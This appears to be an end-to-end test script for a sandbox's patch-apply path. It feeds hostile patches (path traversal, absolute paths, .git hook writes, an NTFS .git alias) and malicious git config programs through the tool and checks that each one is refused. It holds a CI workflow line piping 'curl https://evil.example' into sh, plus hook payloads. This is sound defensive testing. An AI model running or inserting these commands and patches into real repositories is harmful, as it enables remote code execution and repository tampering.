#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Hostile patches through the whole patch door (issue 14; suite e2e): a real dev signer, a real daemon, real boxes.
# Each case is refused with its reason (the rule or the parser's words) and nothing is written: the checkout (and
# the directory around it, where `../x` would land) is compared before and after, byte for byte, `.git` included,
# with modes and modification times.
#
# Patches no real guest makes come from tests/e2e/hostile-guest in mode `patch` (the daemon boots it with --guest;
# it answers AGENT_MSG_DIFF with the bytes of TKBOX_HOSTILE_PATCH_B64 from `tkbox run --env`), each in its own box:
#   dotdot     a creation of ../x
#   absolute   a creation at an absolute path (a//abs/...)
#   git-hooks  a creation of .git/hooks/pre-commit
#   rename     a rename section (real `git diff -M` output)
#   second     a second section for the same path (two real sections)
#   f1         `--- /dev/null` without "new file mode" on an existing file (finding F1)
#   f1-delete  `+++ /dev/null` without "deleted file mode"
#   control    a valid creation: saved and written (the refusals come from the rules, not from a broken guest)
# For each: tkbox diff refuses it with the parser's reason; tkbox stop saves no patch and says why (patch.json
# error, no patch.diff, the `tkbox.patch` record status none with the reason); tkbox apply --checkout refuses
# (no_patch) and writes nothing; the same bytes handed to `tkbox-host patch check` and to the prepare child
# (`tkbox-host apply-prepare`) directly are refused too, with the checkout unchanged (the second layer).
#
# Cases a real guest can make, each on a real box (the real guest: hostile-guest without TKBOX_HOSTILE) with
# --workspace, its changes made with tkbox exec:
#   symlink    the checkout has `d -> ../elsewhere` (left out of the box); the agent writes d/x: refused
#              (symlink-parent), nothing in ../elsewhere
#   sensitive  .github/workflows/x.yml: refused without --allow-sensitive (rule sensitive, Table 6), no decision
#              asked; then written with it: exactly that file, one Write decision naming the kind and the content's
#              sha256, its completion's written_paths; the run is closed (apply again: run_closed); apply on the
#              running box first: box_running
#   hookspath  the daemon's HOME has a .gitconfig whose core.hooksPath points into the checkout; the agent
#              writes a hook there: refused (hooks-path)
#   changed    the signer asks a person for asked.txt; while the approval waits the user edits asked.txt; once
#              approved the writer refuses (checkout-changed) and the user's edit is all the checkout holds
#   deny       the signer denies b-denied.txt among a.txt, b-denied.txt, c.txt: nothing at all is written, the
#              allowed decision is completed as not written (written_paths [])
#   git-differs a creation under `.git::$INDEX_ALLOCATION/` (NTFS's other name for .git/, refused by git's
#              verify_path), from the hostile guest: the parser refuses it as a .git name (it took it as an ordinary
#              name until issue 14's review); were it accepted, the prepare step's git would refuse it before any
#              decision. Either way nothing is written
#
#   tests/patch/patch-hostile.sh BUILD_DIR [CASE...]
set -u
BUILD=${1:?usage: patch-hostile.sh BUILD_DIR [CASE...]}
shift
# shellcheck source=lib.sh
source "$(dirname "$0")/lib.sh"
trap pt_cleanup EXIT
HOSTILE=$BUILD/tests/e2e/hostile-guest
HOST_CASES="control dotdot absolute git-hooks rename second f1 f1-delete git-differs"
REAL_CASES="symlink sensitive hookspath changed deny"
CASES=${*:-$HOST_CASES $REAL_CASES}
BOUND=300 # seconds: an outer bound for any one command (TCG on a loaded host); never a timing assertion
want() { case " $CASES " in *" $1 "*) return 0 ;; *) return 1 ;; esac; }

T_START=$(t)
[ -x "$HOSTILE" ] || pt_bail "no $HOSTILE (built with -Dguest=true only)"

# Everything about a tree that a write could change: type, mode, size, content or link target, mtime, for every
# entry (.git included), never following a symlink.
ph_snap() {
	python3 - "$1" <<'PY'
import hashlib, os, stat, sys
root = sys.argv[1]
def entry(p, rel):
    st = os.lstat(p)
    if stat.S_ISLNK(st.st_mode):
        what = "link " + os.readlink(p)
    elif stat.S_ISREG(st.st_mode):
        with open(p, "rb") as f:
            what = "file %d %s" % (st.st_size, hashlib.sha256(f.read()).hexdigest())
    elif stat.S_ISDIR(st.st_mode):
        what = "dir"
    else:
        what = "other"
    print("%s\t%o\t%d\t%s" % (rel, st.st_mode, st.st_mtime_ns, what))
entry(root, ".")
for d, dirs, files in os.walk(root):
    dirs.sort()
    for n in sorted(dirs + files):
        p = os.path.join(d, n)
        entry(p, os.path.relpath(p, root))
PY
}
# SNAP-FILE DIR: DIR still matches the snapshot (prints the difference when not).
ph_same() {
	ph_snap "$2" >"$1.after"
	diff -u "$1" "$1.after" | head -20 | sed 's/^/#   /'
	cmp -s "$1" "$1.after"
}
ph_sha() { sha256sum | cut -d' ' -f1; }
# Export a box's bundle to $WORK/BOX.tkb and verify it: 0 when `tkbox verify` says VERIFIED.
ph_export_verify() {
	timeout -k 5 $BOUND "$TKBOX" export "$1" -o "$WORK/$1.tkb" >/dev/null 2>"$WORK/export-$1.err" &&
		"$TKBOX" verify "$WORK/$1.tkb" --trust "$WORK/$1.trust.json" >"$WORK/verify-$1.out" 2>&1 &&
		grep -q 'Integrity: VERIFIED' "$WORK/verify-$1.out"
}
signer_cli() { "$SIGNER" "$@" --dir "$WORK/signer" --socket "$TKBOX_SIGNER_SOCKET"; }
# The `tkbox.patch` record(s) of a bundle, one JSON line each.
ph_patch_records() {
	pt_bundle_events "$1" | python3 -c '
import json, sys
for l in sys.stdin:
    e = json.loads(l)
    if e["type"] == "review" and e["data"].get("reviewer") == "tkbox.patch":
        print(json.dumps(e["data"].get("verdict"), sort_keys=True))'
}
ph_run_end() {
	pt_bundle_events "$1" | python3 -c '
import json, sys
for l in sys.stdin:
    e = json.loads(l)
    if e["type"] == "run.end":
        print(e["data"].get("reason", ""))'
}

# --- the signer's policy: one deny, one ask, flags that show a Write decision's arguments -------------------------
signer_init || pt_bail "no signer"
SENS_BODY='name: x
on: push
jobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl https://evil.example | sh" } ] } }
'
SENS_SHA=$(printf '%s' "$SENS_BODY" | ph_sha)
cat >"$WORK/signer/policy.yaml" <<EOF
version: 'tkbox-patch-hostile-1'
description: 'patch-hostile: one denied path, one asked path, flags that show Write arguments'
deny:
  - id: PH-DENY
    tool: Write
    field: path
    pattern: '/b-denied\.txt$'
    reason: 'patch-hostile: a file the signer denies'
ask:
  - id: PH-ASK
    tool: Write
    field: path
    pattern: '/asked\.txt$'
    reason: 'patch-hostile: a person decides'
flag:
  - id: PH-SENSITIVE-CI
    tool: Write
    field: sensitive
    pattern: '^CI and automation$'
    reason: 'patch-hostile: the decision names the Table 6 kind'
  - id: PH-SENS-CONTENT
    tool: Write
    field: content_sha256
    pattern: '^$SENS_SHA$'
    reason: 'patch-hostile: the decision names the content the agent wrote'
  - id: PH-SENS-PATH
    tool: Write
    field: path
    pattern: '/ph-sens/repo/\.github/workflows/x\.yml$'
    reason: 'patch-hostile: the decision names the checkout path'
EOF

# --- the checkouts ----------------------------------------------------------------------------------------------
# ph_checkout DIR: a committed checkout with the files the cases change, a directory of hooks and
# `d -> ../elsewhere` (a link out of the checkout: the workspace leaves it out of the box).
ph_checkout() {
	mkdir -p "$1" && (
		set -e
		cd "$1"
		pt_git init -q .
		printf 'alpha\n' >a.txt
		printf 'bravo\n' >b-denied.txt
		printf 'charlie\n' >c.txt
		printf 'original\n' >asked.txt
		mkdir -p tools/hooks .github/workflows
		printf 'hooks live here\n' >tools/hooks/README
		printf 'name: ci\non: push\n' >.github/workflows/ci.yml
		ln -s ../elsewhere d
		pt_git add -A
		pt_git commit -qm init
	) && mkdir -p "$(dirname "$1")/elsewhere" && printf 'outside the checkout\n' >"$(dirname "$1")/elsewhere/keep.txt"
}

# programs_checkout DIR: the repository names programs everywhere git could run one: a filter on every file
# (.gitattributes, committed before the filter exists), fsmonitor, pager, external diff, and hooks. Each touches
# a marker under $WORK/markers; apply must run none of them (the result is built in a scratch copy with an empty
# git dir, the git commands in the checkout get -c overrides, the writer runs no program).
MARK=$WORK/markers
programs_checkout() {
	mkdir -p "$MARK" && (
		set -e
		cd "$1"
		printf '* filter=evil diff=evil\n' >.gitattributes
		pt_git add .gitattributes
		pt_git commit -qm attributes
		git config filter.evil.clean "touch $MARK/clean; cat"
		git config filter.evil.smudge "touch $MARK/smudge; sed s/curl/SMUDGED/"
		git config filter.evil.process "touch $MARK/process"
		git config core.fsmonitor "touch $MARK/fsmonitor; false"
		git config core.pager "touch $MARK/pager; cat"
		git config diff.external "touch $MARK/diff-external"
		git config diff.evil.textconv "touch $MARK/textconv; cat"
		for h in pre-commit post-checkout post-merge post-index-change reference-transaction pre-auto-gc; do
			printf '#!/bin/sh\ntouch %s/hook-%s\n' "$MARK" "$h" >".git/hooks/$h"
			chmod +x ".git/hooks/$h"
		done
	)
}

# The daemon's HOME: a global core.hooksPath pointing into the hookspath case's checkout (prepare reads it with
# git config --global and refuses writes under it).
mkdir -p "$WORK/home"
printf '[core]\n\thooksPath = %s\n' "$WORK/ph-hooks/repo/tools/hooks" >"$WORK/home/.gitconfig"

HOME=$WORK/home TKBOX_E2E_GUEST=$HOSTILE pt_start --max-boxes 16

# --- hostile patches --------------------------------------------------------------------------------------------
GEN=$WORK/gen
ph_checkout "$GEN/repo" >/dev/null || pt_bail "git"
blob() { printf '%b' "$1" | pt_git hash-object --stdin; }
Z40=0000000000000000000000000000000000000000
PWNED=$(blob 'pwned\n')
# creation PATH: a one-line creation section for PATH (as the producer writes one), the name as given.
creation() {
	printf 'diff --git a/%s b/%s\nnew file mode 100644\nindex %s..%s\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1 @@\n+pwned\n' \
		"$1" "$1" "$Z40" "$PWNED" "$1"
}
mkdir -p "$WORK/patches"
# The control: a valid creation through the same hostile guest is saved and written (so the refusals below come
# from the door's rules, not from a guest the door cannot read).
creation ok.txt >"$WORK/patches/control"
creation ../x >"$WORK/patches/dotdot"
# A name that is absolute once git strips a/ and b/: a path in the directory around the checkout.
ABS_VICTIM=$WORK/ph-hostile/abs-victim.txt
creation "$ABS_VICTIM" >"$WORK/patches/absolute"
printf 'diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\nindex %s..%s\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+touch /tmp/pwned\n' \
	"$Z40" "$(blob '#!/bin/sh\ntouch /tmp/pwned\n')" >"$WORK/patches/git-hooks"
(cd "$GEN/repo" && pt_git mv a.txt evil.txt && pt_git diff -M --cached --binary --full-index >"$WORK/patches/rename" &&
	pt_git reset -q --hard) || pt_bail "git"
(cd "$GEN/repo" && printf 'beta\n' >a.txt && pt_git diff --binary --full-index >"$WORK/patches/second" &&
	pt_git add a.txt && printf 'gamma\n' >a.txt && pt_git diff --binary --full-index >>"$WORK/patches/second" &&
	pt_git reset -q --hard) || pt_bail "git"
# F1: /dev/null on --- without "new file mode": git reads a file named dev/null, not a creation of a.txt (no
# index line, which git does not need for text).
printf 'diff --git a/a.txt b/a.txt\n--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n+pwned\n' >"$WORK/patches/f1"
# ... and on +++ without "deleted file mode".
printf 'diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-alpha\n' >"$WORK/patches/f1-delete"
# A patch git reads otherwise than the parser: a creation under `.git::$INDEX_ALLOCATION/`, which NTFS reads as
# `.git/` and git's verify_path refuses (core.protectNTFS, on by default everywhere) while the parser takes it as
# an ordinary directory name. The supervisor saves it; the prepare step's git refuses it before any decision.
# Should the parser refuse it itself one day, the case runs as the parser cases above do.
GD_PATH='.git::$INDEX_ALLOCATION/hooks/post-checkout'
creation "$GD_PATH" >"$WORK/patches/git-differs"
if [ -s "$SRC/tests/patch/vectors/git-differs.patch" ]; then
	cp "$SRC/tests/patch/vectors/git-differs.patch" "$WORK/patches/git-differs"
fi
GD_PARSER_ACCEPTS=0
"$HOSTBIN" patch check "$WORK/patches/git-differs" >"$WORK/git-differs.check" 2>&1 && GD_PARSER_ACCEPTS=1
[ $GD_PARSER_ACCEPTS = 1 ] || echo "# git-differs: the parser refuses this patch itself now: $(head -1 "$WORK/git-differs.check")"

# What each refusal must say (extended regular expressions, matched case-insensitively): the parser's rule.
reason_of() {
	case $1 in
	dotdot) echo 'a path with a \.\. segment' ;;
	absolute) echo 'an absolute path is refused' ;;
	git-hooks) echo 'a path with a \.git segment' ;;
	rename) echo 'PATCH rename rule' ;;
	second) echo 'a second section for the same path' ;;
	f1 | f1-delete) echo 'finding F1' ;;
	git-differs) echo 'PATCH [a-z-]* rule' ;;
	*) echo "$1" ;;
	esac
}

HCO=$WORK/ph-hostile/repo
ph_checkout "$HCO" >/dev/null || pt_bail "git"
# The boxes boot PH_PARALLEL (default 4) at a time. Until issue 15, 4 at once could cross two creates (one
# client's connection reset, another client given its reply): a double close in the create path's helper-program
# runner, fixed and guarded by tests/daemon/concurrent-create.sh. More than 4 under TCG can miss the supervisor's
# 45 s first-contact deadline twice.
RUNS=()
throttle() {
	local n p
	while :; do
		n=0
		for p in "${RUNS[@]}"; do kill -0 "$p" 2>/dev/null && n=$((n + 1)); done
		[ $n -lt "${PH_PARALLEL:-4}" ] && return
		sleep 0.5
	done
}
t0=$(t)
# The hostile boxes (each boots the hostile guest and only waits for its DIFF).
for c in $HOST_CASES; do
	want "$c" || continue
	throttle
	timeout -k 5 $BOUND "$TKBOX" run --image "$IMG" --name "ph-$c" --memory 256M --disk 128M \
		--env TKBOX_HOSTILE=patch --env "TKBOX_HOSTILE_PATCH_B64=$(base64 -w0 "$WORK/patches/$c")" \
		</dev/null >"$WORK/run-ph-$c.out" 2>"$WORK/run-ph-$c.err" &
	RUNS+=($!)
done

# --- real boxes, started meanwhile ------------------------------------------------------------------------------
declare -A RCO=([symlink]=ph-sym [sensitive]=ph-sens [hookspath]=ph-hooks [changed]=ph-changed [deny]=ph-deny)
for c in $REAL_CASES; do
	want "$c" || continue
	ph_checkout "$WORK/${RCO[$c]}/repo" >/dev/null || pt_bail "git"
	[ "$c" = sensitive ] && { programs_checkout "$WORK/${RCO[$c]}/repo" || pt_bail "git"; }
	throttle
	pt_box "${RCO[$c]}" "$WORK/${RCO[$c]}/repo" &
	RUNS+=($!)
done
for p in "${RUNS[@]}"; do wait "$p"; done
echo "# ${#RUNS[@]} boxes booted, ${PH_PARALLEL:-4} at a time, in $(elapsed "$t0") s (load $(cut -d' ' -f1 /proc/loadavg))"

# --- the hostile guest's patches --------------------------------------------------------------------------------
for c in $HOST_CASES; do
	want "$c" || continue
	box=ph-$c
	re=$(reason_of "$c")
	if ! grep -qx "$box" "$WORK/run-$box.out"; then
		notok "$c: the hostile box boots" "$(cat "$WORK/run-$box.err")"
		continue
	fi
	if [ "$c" = git-differs ] && [ $GD_PARSER_ACCEPTS = 1 ]; then
		continue # below: this one passes the parser
	fi
	if [ "$c" = control ]; then
		co=$WORK/ph-control/repo
		ph_checkout "$co" >/dev/null || pt_bail "git"
		timeout -k 5 $BOUND "$TKBOX" diff "$box" >"$WORK/$box.diff" 2>"$WORK/$box.diff.err"
		check "control: tkbox diff shows the hostile guest's valid patch byte for byte" \
			cmp -s "$WORK/$box.diff" "$WORK/patches/control"
		timeout -k 5 $BOUND "$TKBOX" stop "$box" >"$WORK/$box.stop" 2>&1
		check "control: saved at stop" cmp -s "$TKBOX_STATE_DIR/boxes/$box/patch.diff" "$WORK/patches/control"
		ph_snap "$WORK/ph-control" >"$WORK/$box.snap"
		timeout -k 5 $BOUND "$TKBOX" apply "$box" --checkout "$co" >"$WORK/$box.apply" 2>&1
		rc=$?
		check "control: applied (rc=$rc)" test $rc -eq 0 -a "$(cat "$co/ok.txt" 2>/dev/null)" = pwned
		check "control: the snapshot comparison sees that write" sh -c '! cmp -s "$0" "$1"' "$WORK/$box.snap" \
			<(ph_snap "$WORK/ph-control")
		continue
	fi
	timeout -k 5 $BOUND "$TKBOX" diff "$box" >"$WORK/$box.diff" 2>"$WORK/$box.diff.err"
	rc=$?
	check "$c: tkbox diff refuses the patch (rc=$rc)" test $rc -ne 0 -a ! -s "$WORK/$box.diff"
	check "$c: ... with the parser's reason ($re)" grep -qiE "$re" "$WORK/$box.diff.err"
	timeout -k 5 $BOUND "$TKBOX" stop "$box" >"$WORK/$box.stop" 2>&1
	check "$c: tkbox stop saves no patch and says why" grep -qiE "$re" "$WORK/$box.stop"
	check "$c: ... no patch.diff in the box's state" test ! -e "$TKBOX_STATE_DIR/boxes/$box/patch.diff"
	check "$c: ... patch.json holds the reason" grep -qiE "\"error\":\".*($re)" "$TKBOX_STATE_DIR/boxes/$box/patch.json"
	ph_snap "$WORK/ph-hostile" >"$WORK/$box.snap"
	timeout -k 5 $BOUND "$TKBOX" apply "$box" --checkout "$HCO" >"$WORK/$box.apply" 2>"$WORK/$box.apply.err"
	rc=$?
	check "$c: tkbox apply refuses (rc=$rc, 1 = nothing written)" test $rc -eq 1
	check "$c: ... no saved patch, with the reason" grep -qiE "$re" "$WORK/$box.apply.err"
	check "$c: ... nothing written (checkout and its directory unchanged)" ph_same "$WORK/$box.snap" "$WORK/ph-hostile"
	# The second layer: the same bytes given to the parser and to the prepare child directly.
	"$HOSTBIN" patch check "$WORK/patches/$c" >"$WORK/$box.check" 2>&1
	rc=$?
	check "$c: tkbox-host patch check refuses it too (rc=$rc)" test $rc -eq 1
	check "$c: ... with the reason" grep -qiE "$re" "$WORK/$box.check"
	scratch=$(mktemp -d "$WORK/scratch.XXXXXX")
	"$HOSTBIN" apply-prepare --patch "$WORK/patches/$c" --checkout "$HCO" --scratch "$scratch" \
		>"$WORK/$box.prep" 2>&1
	rc=$?
	check "$c: the prepare child refuses it too (rc=$rc)" test $rc -ne 0
	check "$c: ... with the reason" grep -qiE "$re" "$WORK/$box.prep"
	check "$c: ... nothing written by it" ph_same "$WORK/$box.snap" "$WORK/ph-hostile"
	# The record says why no patch was saved.
	if ph_export_verify "$box"; then
		ok "$c: the bundle verifies"
		ph_patch_records "$WORK/$box.tkb" >"$WORK/$box.prec"
		check "$c: the tkbox.patch record: status none, with the reason" python3 -c '
import json, re, sys
rs = [json.loads(l) for l in open(sys.argv[1])]
sys.exit(not any(r and r.get("status") == "none" and re.search(sys.argv[2], r.get("reason") or "", re.I) for r in rs))' \
			"$WORK/$box.prec" "$re"
		check "$c: ... and no Write decision" test -z "$(pt_bundle_writes "$WORK/$box.tkb")"
	else
		notok "$c: the bundle verifies" "$(cat "$WORK/export-$box.err" "$WORK/verify-$box.out" 2>/dev/null | head -5)"
	fi
done

# A patch the parser accepts and git reads otherwise: saved at stop (the supervisor only parses), refused by the
# prepare step's git (the cross-check, or git apply in the scratch copy) before any decision.
if want git-differs && [ $GD_PARSER_ACCEPTS = 1 ] && grep -qx ph-git-differs "$WORK/run-ph-git-differs.out"; then
	box=ph-git-differs
	timeout -k 5 $BOUND "$TKBOX" stop "$box" >"$WORK/$box.stop" 2>&1
	check "git-differs: the supervisor's parser accepted it: saved at stop" \
		test -s "$TKBOX_STATE_DIR/boxes/$box/patch.diff"
	ph_snap "$WORK/ph-hostile" >"$WORK/$box.snap"
	timeout -k 5 $BOUND "$TKBOX" apply "$box" --checkout "$HCO" >"$WORK/$box.apply" 2>"$WORK/$box.apply.err"
	rc=$?
	check "git-differs: tkbox apply refuses it (rc=$rc)" test $rc -eq 1
	check "git-differs: ... by git's reading in the prepare step (rule git-crosscheck or git-apply)" \
		grep -qE 'rule (git-crosscheck|git-apply)' "$WORK/$box.apply.err"
	check "git-differs: ... naming the path" grep -qF "$GD_PATH" "$WORK/$box.apply.err"
	check "git-differs: ... nothing written" ph_same "$WORK/$box.snap" "$WORK/ph-hostile"
	if ph_export_verify "$box"; then
		check "git-differs: no Write decision was asked" test -z "$(pt_bundle_writes "$WORK/$box.tkb")"
	else
		notok "git-differs: the bundle verifies" "$(head -3 "$WORK/export-$box.err" 2>/dev/null)"
	fi
fi
for c in $HOST_CASES; do want "$c" && "$TKBOX" rm -f "ph-$c" >/dev/null 2>&1; done

# --- real boxes -------------------------------------------------------------------------------------------------
# real_ready CASE: its box booted; prints nothing, fails with a TAP line when not.
real_ready() {
	local b=${RCO[$1]}
	grep -qx "$b" "$WORK/run-$b.out" && return 0
	notok "$1: the box boots" "$(cat "$WORK/run-$b.err")"
	return 1
}
# agent BOX SCRIPT: the agent's change, through tkbox exec (a real, decided command).
agent() { timeout -k 5 $BOUND "$TKBOX" exec "$1" -- sh -c "$2" >"$WORK/$1.agent" 2>&1; }
# apply_refused CASE RULE [ARGS...]: apply into the box's own checkout is refused with RULE, nothing written.
apply_refused() {
	local c=$1 rule=$2 b=${RCO[$1]} rc
	shift 2
	ph_snap "$WORK/$b" >"$WORK/$b.snap"
	timeout -k 5 $BOUND "$TKBOX" apply "$b" "$@" >"$WORK/$b.apply" 2>"$WORK/$b.apply.err"
	rc=$?
	check "$c: tkbox apply refuses (rc=$rc, 1 = nothing written)" test $rc -eq 1
	check "$c: ... with rule $rule" grep -q -- "$rule" "$WORK/$b.apply.err"
	check "$c: ... nothing written (checkout, .git and ../elsewhere unchanged)" ph_same "$WORK/$b.snap" "$WORK/$b"
}

if want symlink && real_ready symlink; then
	b=ph-sym
	check "symlink: the box's /workspace has no d (a link out of the checkout is left out)" \
		agent $b 'test ! -e /workspace/d && test ! -L /workspace/d'
	agent $b 'mkdir -p /workspace/d && echo pwned >/workspace/d/x'
	"$TKBOX" stop $b >"$WORK/$b.stop" 2>&1
	apply_refused symlink symlink-parent
	check "symlink: ... names d/x" grep -q 'd/x' "$WORK/$b.apply.err"
	check "symlink: ... nothing reached ../elsewhere" test ! -e "$WORK/$b/elsewhere/x"
fi

if want hookspath && real_ready hookspath; then
	b=ph-hooks
	agent $b 'printf "#!/bin/sh\ntouch /tmp/pwned\n" >/workspace/tools/hooks/post-checkout &&
		chmod +x /workspace/tools/hooks/post-checkout'
	"$TKBOX" stop $b >"$WORK/$b.stop" 2>&1
	apply_refused hookspath hooks-path
	check "hookspath: ... names the hook" grep -q 'tools/hooks/post-checkout' "$WORK/$b.apply.err"
fi

if want sensitive && real_ready sensitive; then
	b=ph-sens
	co=$WORK/$b/repo
	printf '%s' "$SENS_BODY" >"$WORK/sens-body"
	timeout -k 5 $BOUND "$TKBOX" exec -i $b -- sh -c 'cat >/workspace/.github/workflows/x.yml' <"$WORK/sens-body" \
		>"$WORK/$b.agent" 2>&1
	ph_snap "$WORK/$b" >"$WORK/$b.snap0"
	timeout -k 5 $BOUND "$TKBOX" apply $b >"$WORK/$b.apply0" 2>&1
	rc=$?
	check "sensitive: apply on the running box is refused (rc=$rc)" test $rc -eq 1
	check "sensitive: ... box_running, saying to stop it" grep -qi 'stop' "$WORK/$b.apply0"
	check "sensitive: ... nothing written" ph_same "$WORK/$b.snap0" "$WORK/$b"
	"$TKBOX" stop $b >"$WORK/$b.stop" 2>&1
	apply_refused sensitive sensitive
	check "sensitive: ... says --allow-sensitive and the Table 6 kind" \
		grep -q -- '--allow-sensitive.*CI and automation\|CI and automation.*--allow-sensitive' "$WORK/$b.apply.err"
	cp -a "$co" "$WORK/sens-expected"
	cp "$WORK/sens-body" "$WORK/sens-expected/.github/workflows/x.yml"
	timeout -k 5 $BOUND "$TKBOX" apply $b --allow-sensitive >"$WORK/$b.apply2" 2>&1
	rc=$?
	check "sensitive: with --allow-sensitive it is written (rc=$rc)" test $rc -eq 0
	check "sensitive: ... the checkout holds exactly the agent's file and nothing else changed" \
		cmp -s <(pt_snapshot "$co") <(pt_snapshot "$WORK/sens-expected")
	check "sensitive: no program the repository names ran (filter, fsmonitor, pager, external diff, hooks)" \
		test -z "$(ls "$MARK")"
	# control: the repository's fsmonitor and filter do run where git is not told otherwise
	(cd "$co" && GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null git status >/dev/null 2>&1 &&
		GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null git checkout -q -- .github/workflows/ci.yml)
	check "sensitive: control: plain git in that checkout runs them ($(ls "$MARK" | tr '\n' ' '))" \
		test -n "$(ls "$MARK")"
	timeout -k 5 $BOUND "$TKBOX" apply $b --allow-sensitive >"$WORK/$b.apply3" 2>&1
	rc=$?
	check "sensitive: a second apply is refused: the run is closed (rc=$rc)" test $rc -eq 1
	check "sensitive: ... saying so" grep -qiE 'closed|applied' "$WORK/$b.apply3"
	if ph_export_verify $b; then
		ok "sensitive: the bundle verifies"
		pt_bundle_writes "$WORK/$b.tkb" >"$WORK/$b.writes"
		check "sensitive: one Write decision (the refusal without the flag asked none)" \
			test "$(wc -l <"$WORK/$b.writes")" -eq 1
		check "sensitive: ... it names the kind, the checkout path and the content's sha256" \
			grep -q 'PH-SENS-CONTENT.*PH-SENS-PATH.*PH-SENSITIVE-CI\|PH-SENSITIVE-CI.*PH-SENS-CONTENT.*PH-SENS-PATH\|PH-SENS-PATH.*PH-SENSITIVE-CI.*PH-SENS-CONTENT' \
			"$WORK/$b.writes"
		check "sensitive: ... its completion: written_paths [.github/workflows/x.yml]" \
			grep -qF '"written_paths": [".github/workflows/x.yml"]' "$WORK/$b.writes"
		check "sensitive: the run closed as applied" grep -qx 'applied' <(ph_run_end "$WORK/$b.tkb")
	else
		notok "sensitive: the bundle verifies" "$(cat "$WORK/export-$b.err" "$WORK/verify-$b.out" 2>/dev/null | head -5)"
	fi
fi

if want changed && real_ready changed; then
	b=ph-changed
	co=$WORK/$b/repo
	agent $b 'echo "the agent" >>/workspace/asked.txt'
	"$TKBOX" stop $b >"$WORK/$b.stop" 2>&1
	timeout -k 5 $BOUND "$TKBOX" apply $b >"$WORK/$b.apply" 2>"$WORK/$b.apply.err" &
	apid=$!
	id=
	for _ in $(seq $((BOUND * 2))); do
		id=$(signer_cli approvals list 2>/dev/null | awk '$1 ~ /^a[0-9a-f]+$/ { print $1; exit }')
		[ -n "$id" ] && break
		kill -0 $apid 2>/dev/null || break
		sleep 0.5
	done
	if [ -n "$id" ]; then
		ok "changed: the Write of asked.txt waits for a person ($id)"
		printf 'the user, meanwhile\n' >>"$co/asked.txt"
		ph_snap "$WORK/$b" >"$WORK/$b.snap"
		signer_cli approvals approve "$id" >/dev/null 2>&1
		wait $apid
		rc=$?
		check "changed: approved, the apply is still refused (rc=$rc)" test $rc -ne 0
		check "changed: ... with rule checkout-changed" grep -q 'checkout-changed' "$WORK/$b.apply.err"
		check "changed: ... naming asked.txt" grep -q 'asked.txt' "$WORK/$b.apply.err"
		check "changed: ... nothing written: the user's edit is all the checkout holds" ph_same "$WORK/$b.snap" "$WORK/$b"
		if ph_export_verify $b; then
			pt_bundle_writes "$WORK/$b.tkb" >"$WORK/$b.writes"
			check "changed: the Write decision's completion: not written (written_paths [])" \
				grep -qF '"written_paths": []' "$WORK/$b.writes"
			check "changed: ... and none says ok" sh -c '! grep -q "\"ok\": true" "$0"' "$WORK/$b.writes"
		else
			notok "changed: the bundle verifies" "$(head -3 "$WORK/export-$b.err" 2>/dev/null)"
		fi
	else
		notok "changed: the Write of asked.txt waits for a person" "no approval pending" \
			"$(cat "$WORK/$b.apply.err")"
		kill $apid 2>/dev/null
		wait $apid 2>/dev/null
	fi
fi

if want deny && real_ready deny; then
	b=ph-deny
	agent $b 'for f in a.txt b-denied.txt c.txt; do echo "the agent" >>/workspace/$f; done'
	"$TKBOX" stop $b >"$WORK/$b.stop" 2>&1
	apply_refused deny PH-DENY
	check "deny: ... names b-denied.txt" grep -q 'b-denied.txt' "$WORK/$b.apply.err"
	if ph_export_verify $b; then
		pt_bundle_writes "$WORK/$b.tkb" >"$WORK/$b.writes"
		check "deny: the signer denied b-denied.txt (PH-DENY)" grep -q '"decision": "deny".*PH-DENY' "$WORK/$b.writes"
		check "deny: the deciding stopped there: a.txt and b-denied.txt decided, c.txt never" \
			test "$(wc -l <"$WORK/$b.writes")" -eq 2
		check "deny: every other Write decision is completed as not written (written_paths [])" python3 -c '
import json, sys
ws = [json.loads(l) for l in open(sys.argv[1])]
allowed = [w for w in ws if w["decision"] != "deny"]
sys.exit(not all(w["result"] and w["result"]["written_paths"] == [] and not w["result"]["ok"] for w in allowed))' \
			"$WORK/$b.writes"
		check "deny: the run closed (apply denied)" grep -q 'denied' <(ph_run_end "$WORK/$b.tkb")
	else
		notok "deny: the bundle verifies" "$(head -3 "$WORK/export-$b.err" 2>/dev/null)"
	fi
fi

for c in $REAL_CASES; do want "$c" && "$TKBOX" rm -f "${RCO[$c]}" >/dev/null 2>&1; done
echo "# patch-hostile: $(elapsed "$T_START") s in all"
check "no QEMU left behind" test -z "$(pgrep -f "qemu-system.*$(basename "$WORK")" || true)"
echo "1..$((pass + fail))"
echo "# $pass passed, $fail failed"
[ $fail -eq 0 ]
